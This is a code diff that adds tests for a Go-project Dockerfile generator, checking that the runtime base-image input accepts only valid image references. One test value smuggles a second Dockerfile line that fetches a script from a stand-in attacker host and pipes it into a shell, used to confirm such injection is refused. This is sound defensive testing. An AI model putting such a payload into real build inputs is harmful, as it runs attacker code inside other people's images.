@@ -5,6 +5,7 @@ import {
   generateDockerfile,
   LDFLAGS_ARG,
   parseDockerfile,
+  runtimeImage,
   stagesFor,
 } from '@goship/oci';
 
@@ -158,6 +159,43 @@ describe('generateDockerfile', () => {
         hasGoSum: false,
       }),
     ).toThrow(/Input 'package'/);
+  });
+});
+
+describe('the runtime image (input base) is an image reference, nothing else', () => {
+  const generate = (runtime: string) =>
+    generateDockerfile({
+      goVersion: '1.22',
+      package: '.',
+      binaryName: 'app',
+      port: 8080,
+      runtime,
+      hasGoSum: false,
+    });
+
+  test.each([
+    ['alpine\nRUN wget -qO- http://evil.example/x | sh', /Input 'base'.*whitespace or control/s],
+    ['alpine:3.20\n', /Input 'base'.*whitespace or control/s],
+    ['alpine:3.20 AS runtime', /Input 'base'/],
+    ['Alpine!', /Input 'base'/],
+    ['nginx@sha256:abc', /Input 'base'/],
+    ['', /Input 'base'/],
+  ])('%j is refused', (runtime, message) => {
+    expect(() => generate(runtime)).toThrow(message);
+  });
+
+  test('aliases and references are kept as written; the Dockerfile has exactly one ARG RUNTIME_IMAGE line', () => {
+    for (const [runtime, arg] of [
+      ['scratch', 'scratch'],
+      ['alpine', 'docker.io/library/alpine:3.20'],
+      ['127.0.0.1:5000/base/busybox:1.36', '127.0.0.1:5000/base/busybox:1.36'],
+      [`ghcr.io/acme/run@sha256:${'a'.repeat(64)}`, `ghcr.io/acme/run@sha256:${'a'.repeat(64)}`],
+    ]) {
+      expect(runtimeImage(runtime!)).toBe(arg);
+      const lines = generate(runtime!).split('\n');
+      expect(lines.filter((l) => l.startsWith('ARG RUNTIME_IMAGE'))).toEqual([`ARG RUNTIME_IMAGE=${arg}`]);
+      expect(lines.filter((l) => l.startsWith('FROM'))).toHaveLength(2);
+    }
   });
 });
 
